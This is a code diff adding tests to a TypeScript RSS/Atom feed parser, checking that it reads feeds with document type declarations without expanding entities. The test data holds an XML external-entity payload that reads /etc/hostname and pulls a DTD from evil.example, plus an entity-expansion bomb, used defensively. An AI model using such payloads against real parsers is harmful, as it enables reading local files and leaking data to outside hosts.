@@ -5,6 +5,7 @@ import { ParleyError } from "../../domain/errors.ts";
 import type { RawReport } from "../../domain/raw-report.ts";
 import { acquire } from "../acquire.ts";
 import type { Clock } from "../clock.ts";
+import { mediaTypeOf } from "../media-type.ts";
 import { followFeed } from "./follow-feed.ts";
 import { readOpml, writeOpml } from "./opml.ts";
 import { parseFeed } from "./parse-feed.ts";
@@ -74,6 +75,35 @@ test("counts the entries that a broken feed loses, and gives the rest", () => {
 test("does not expand a bomb of entities", () => {
   const bomb = `<!DOCTYPE rss [<!ENTITY a "${"x".repeat(100)}"><!ENTITY b "${"&a;".repeat(100)}"><!ENTITY c "${"&b;".repeat(100)}">]>${rss("<item><title>&c;</title><link>/x</link></item>").replace(/<\?xml[^>]*>/, "")}`;
   expect(JSON.stringify(parseFeed(bomb, BASE)).length).toBeLessThan(20_000);
+});
+
+const DTD = `<!DOCTYPE rss [
+  <!ENTITY who "Marta Quay"><!ENTITY host SYSTEM "file:///etc/hostname"><!ENTITY % all SYSTEM "https://evil.example/x.dtd"> %all;
+]>`;
+
+test("reads a feed with an inner DTD, and expands nothing that it declares", () => {
+  const text = rss("<item><title>Talks &amp; &who; &host;</title><link>/x</link></item>").replace(/\?>/, `?>\n${DTD}`);
+  expect(mediaTypeOf(new TextEncoder().encode(text), "feed.xml")).toBe("application/rss+xml");
+  expect(parseFeed(text, BASE).entries).toMatchObject([{ title: "Talks & &who; &host;" }]);
+  const sitemap = `<?xml version="1.0"?>${DTD.replace("rss", "urlset")}<urlset><url><loc>https://news.example/&who;</loc></url></urlset>`;
+  expect(parseFeed(sitemap, BASE).entries).toMatchObject([{ url: "https://news.example/&who;" }]);
+});
+
+test.each([
+  [
+    "RSS 0.91",
+    '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "https://a.example/rss.dtd">',
+    rss(ITEM),
+  ],
+  [
+    "Atom",
+    "<!DOCTYPE feed [<!-- it's > --><!ELEMENT feed ANY>]>",
+    '<feed xmlns="http://www.w3.org/2005/Atom"><entry><id>g1</id><title>Talks &amp; tides</title></entry></feed>',
+  ],
+])("reads %s with a document type", (_, dtd, text) => {
+  expect(parseFeed(dtd + text.replace(/<\?.*?\?>/, ""), BASE).entries).toMatchObject([
+    { id: "g1", title: "Talks & tides" },
+  ]);
 });
 
 test("writes a reading list that it reads again", () => {
